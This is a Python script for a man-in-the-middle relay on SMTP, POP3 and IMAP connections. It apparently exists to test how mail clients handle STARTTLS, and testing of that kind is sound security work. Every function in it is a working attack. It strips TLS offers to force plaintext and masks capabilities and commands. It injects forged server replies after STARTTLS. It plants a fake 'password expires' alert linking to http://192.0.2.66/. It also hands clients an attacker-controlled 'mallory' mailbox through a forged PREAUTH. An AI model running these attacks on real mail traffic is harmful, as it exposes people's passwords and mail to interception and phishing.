"""A man in the middle: passes a conversation on and changes it on the way.
Arguments: listening address, port, server's address, port, what to do, and how
many connections to pass on unchanged first. See EDITS for what it can do."""

import re
import select
import socket
import socketserver
import sys

# What a firewall that inspects SMTP lets pass; it writes X's over the rest and
# letters them: XXXXXXXA, XXXXXXXB.
KNOWN = (b"PIPELINING", b"SIZE", b"8BITMIME", b"AUTH", b"AUTH=", b"ENHANCEDSTATUSCODES", b"DSN", b"ETRN", b"VRFY")


def strip(text: bytes) -> bytes:
    """Takes the offer of TLS out of the lists of SMTP, POP3 and IMAP."""
    return text.replace(b"250-STARTTLS\r\n", b"").replace(b"STLS\r\n", b"").replace(b" STARTTLS", b"")


def strip_second(text: bytes) -> bytes:
    """Takes it out of the answer to CAPABILITY, but not out of the greeting."""
    return strip(text) if text.startswith(b"* CAPABILITY") else text


def mask(text: bytes) -> bytes:
    """Masks the greeting and the list, each byte by another."""
    if text.startswith(b"220 ") and b"ESMTP" in text:
        return b"220 " + b"*" * (len(text) - len(b"220 \r\n")) + b"\r\n"
    if not text.startswith(b"250-"):
        return text
    first, *lines = text.split(b"\r\n")
    masked = 0
    for i, line in enumerate(lines):
        word = re.split(rb"[ =]", line[4:])[0]
        if word and word not in KNOWN:
            lines[i] = line[:4] + b"X" * (len(line) - 5) + bytes([ord("A") + masked])
            masked += 1
    return b"\r\n".join([first, *lines])


def mask_command(text: bytes) -> bytes:
    return re.sub(rb"^STARTTLS", b"XXXXXXXX", text)


def inject(text: bytes) -> bytes:
    """Adds a reply behind the server's yes to STARTTLS."""
    if re.match(rb"220 .*TLS\r\n$", text):
        return text + b"250-mail.example\r\n250 AUTH PLAIN LOGIN\r\n"
    return text


def mailbox(text: bytes) -> bytes:
    """Adds mail to the answer to CAPABILITY, before anybody has logged in."""
    if text.startswith(b"* CAPABILITY"):
        return b'* 1 EXISTS\r\n* OK [ALERT] Your password expires, see http://192.0.2.66/\r\n' + text
    return text


def same(text: bytes) -> bytes:
    return text


# By name: what to do to the server's words, and to the client's.
EDITS = {
    "strip": (strip, same),
    "strip-second": (strip_second, same),
    "mask": (mask, same),
    "mask-command": (same, mask_command),
    "inject": (inject, same),
    "mailbox": (mailbox, same),
    "preauth": (same, same),
    "same": (same, same),
}

listen_host, listen_port, host, port, name, *rest = sys.argv[1:]
unchanged = int(rest[0]) if rest else 0


class Relay(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        global unchanged
        edits = EDITS[name] if unchanged == 0 else (same, same)
        unchanged = max(0, unchanged - 1)
        with socket.create_connection((host, int(port))) as server:
            if name == "preauth":
                log_in(server)
                self.request.sendall(b"* PREAUTH [CAPABILITY IMAP4rev1] Logged in as mallory\r\n")
            self.pass_on(server, edits)

    def pass_on(self, server: socket.socket, edits) -> None:
        client = self.request
        while True:
            for end in select.select([server, client], [], [])[0]:
                text = end.recv(65536)
                if not text:
                    return
                if end is server:
                    client.sendall(edits[0](text))
                else:
                    server.sendall(edits[1](text))


def log_in(server: socket.socket) -> None:
    """Logs in with an account of its own, whose mailbox the client then gets."""
    server.recv(65536)
    server.sendall(b"m LOGIN mallory mallory\r\n")
    while b"m OK" not in server.recv(65536):
        pass


class Server(socketserver.TCPServer):
    allow_reuse_address = True


Server((listen_host, int(listen_port)), Relay).serve_forever()
